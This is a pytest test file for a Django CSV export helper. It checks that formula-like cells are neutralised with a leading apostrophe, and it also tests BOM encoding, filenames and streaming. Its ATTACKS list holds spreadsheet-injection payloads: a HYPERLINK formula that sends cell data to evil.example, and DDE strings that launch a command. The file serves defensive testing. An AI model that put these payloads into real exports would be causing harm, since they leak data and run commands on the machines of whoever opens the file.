"""The one CSV writer: what a coordinator sees when they open an export in a spreadsheet."""

import csv
import datetime
import decimal
import io

import pytest
from django.http import StreamingHttpResponse

from core.csv_export import csv_response

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
]


def _read(response, delimiter=","):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_would_run_as_a_formula_opens_as_plain_text(attack):
    response = csv_response(filename="queue.csv", header=["note"], rows=[[attack]])
    assert _read(response)[1] == ["'" + attack]


def test_ordinary_text_numbers_and_dates_are_written_as_they_are():
    rows = [["Lincoln High", -3, 2.5, decimal.Decimal("-1.50"), datetime.date(2026, 11, 2), None, "-3"]]
    response = csv_response(filename="queue.csv", header=["a", "b", "c", "d", "e", "f", "g"], rows=rows)
    # A negative number is data; the same characters typed as text are quoted.
    assert _read(response)[1] == ["Lincoln High", "-3", "2.5", "-1.50", "2026-11-02", "", "'-3"]


def test_excel_opens_spanish_text_correctly_because_the_file_starts_with_a_utf8_bom():
    text = "El oficial registró la mochila del niño"
    response = csv_response(filename="quejas.csv", header=["Descripción"], rows=[[text]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert _read(response) == [["Descripción"], [text]]


def test_a_semicolon_spreadsheet_cannot_split_a_cell_to_expose_a_formula():
    response = csv_response(filename="queue.csv", header=["note"], rows=[["fine;=1+1", 'says "hi",\nthen left']])
    for row in _read(response, delimiter=";"):
        assert not any(cell.startswith("=") for cell in row)
    assert _read(response)[1] == ["fine;=1+1", 'says "hi",\nthen left']


def test_the_download_is_named_even_with_accented_letters():
    response = csv_response(filename="quejas-año.csv", header=["a"], rows=[])
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=utf-8''quejas-a%C3%B1o.csv" in disposition


def test_a_big_export_streams_row_by_row_with_the_same_safe_content():
    read = []

    def rows():
        for n in range(1000):
            read.append(n)
            yield [f"=row {n}", n]

    response = csv_response(filename="audit.csv", header=["what", "n"], rows=rows(), streaming=True)
    assert isinstance(response, StreamingHttpResponse)
    assert read == []  # nothing is built before the client reads
    chunks = iter(response.streaming_content)
    assert next(chunks).startswith(b"\xef\xbb\xbf")
    assert len(read) == 0
    next(chunks)
    assert len(read) == 1
    rest = list(chunks)
    parsed = list(csv.reader(io.StringIO(b"".join(rest).decode(), newline="")))
    assert len(parsed) == 999 and parsed[-1] == ["'=row 999", "999"]
